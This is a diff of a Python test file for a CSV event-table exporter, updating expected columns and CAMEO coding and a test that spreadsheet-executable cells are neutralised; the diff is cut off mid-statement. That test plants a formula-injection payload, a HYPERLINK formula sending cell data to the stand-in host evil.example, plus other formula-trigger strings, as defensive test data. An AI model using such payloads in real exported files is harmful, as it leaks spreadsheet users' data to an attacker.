@@ -20,7 +20,7 @@ from kg.vocab import KG
 from tests.conftest import make_sample_corpus
 
 EVENT_COLUMNS = [
-    "date", "actor", "actor_country", "actor_sector", "cameo", "plover", "action", "modality",
+    "date", "date_source", "actor", "actor_country", "actor_sector", "cameo", "plover", "action", "modality",
     "target", "target_country", "target_sector", "source_count", "first_source", "event",
 ]
 
@@ -100,10 +100,13 @@ def test_exports_are_deterministic_and_the_same_from_a_file(ds, fmt, tmp_path):
 def test_event_table(ds):
     table = list(csv.DictReader(io.StringIO(formats.export(ds, "events-csv"))))
     assert list(table[0]) == EVENT_COLUMNS
-    assert [(r["date"], r["actor"], r["actor_country"], r["cameo"], r["plover"], r["target"], r["target_country"], r["source_count"], r["first_source"]) for r in table] == [
-        ("2024-10", "North Korea", "PRK", "15", "MOBILIZE", "Russia", "RUS", "1", "d2"),
-        # no event date: the date of its first source document stands in
-        ("2024-11-14", "South Korea", "KOR", "07", "AID", "Ukraine", "UKR", "1", "d1"),
+    assert [(r["date"], r["date_source"], r["actor"], r["actor_country"], r["cameo"], r["plover"], r["modality"], r["target"],
+             r["target_country"], r["source_count"], r["first_source"]) for r in table] == [
+        ("2024-10", "text", "North Korea", "PRK", "15", "MOBILIZE", "asserted", "Russia", "RUS", "1",
+         "North Korea sent 12,000 troops to Russia last month."),
+        # no date in the text: its article's, marked; weighing an arms supply is coded "consider" (014), not aid (07)
+        ("2024-11-14", "article", "South Korea", "KOR", "014", "AID", "considered", "Ukraine", "UKR", "1",
+         "South Korea is weighing supplying arms to Ukraine. Seoul said so."),
     ]
 
 
@@ -200,7 +203,7 @@ def test_event_table_gives_full_cameo_codes_and_sectors():
     corpus = _with_roles()
     corpus = replace(corpus, entities=tuple(replace(e, sector="MIL") if e.key == "PRK" else e for e in corpus.entities))
     table = list(csv.DictReader(io.StringIO(formats.export(to_dataset(corpus), "events-csv"))))
-    assert [(r["actor"], r["cameo"], r["actor_sector"]) for r in table] == [("North Korea", "0234", "MIL"), ("South Korea", "07", "")]
+    assert [(r["actor"], r["cameo"], r["actor_sector"]) for r in table] == [("North Korea", "0234", "MIL"), ("South Korea", "014", "")]
 
 
 def test_event_table_cells_that_a_spreadsheet_would_run_are_neutralised():
@@ -210,8 +213,10 @@ def test_event_table_cells_that_a_spreadsheet_would_run_are_neutralised():
     from kg.model import Document
 
     sample = make_sample_corpus()
-    documents = (Document("=HYPERLINK(\"http://evil.example/?\"&A1)", sample.documents[0].text, "2024-11-14"),
-                 dataclasses.replace(sample.documents[1], id="@SUM(1+1)"))
+    # the source column shows a document's title: titles and ids come from the articles
+    documents = (Document("=HYPERLINK(\"http://evil.example/?\"&A1)", sample.documents[0].text, "2024-11-14",
+                          title="=HYPERLINK(\"http://evil.example/?\"&A1)"),
+                 dataclasses.replace(sample.documents[1], id="@SUM(1+1)", title="@SUM(1+1)"))
     entities = tuple(dataclasses.replace(e, label="-2+3 Korea") if e.key == "KOR" else e for e in sample.entities)
     mentions = tuple(dataclasses.replace(m, doc_id=documents[0].id if m.doc_id == "d1" else documents[1].id) for m in sample.mentions)
     events = tuple(dataclasses.replace(e, evidence=tuple(dataclasses.replace(v, doc_id=documents[0].id if v.doc_id == "d1" else documents[1].id)
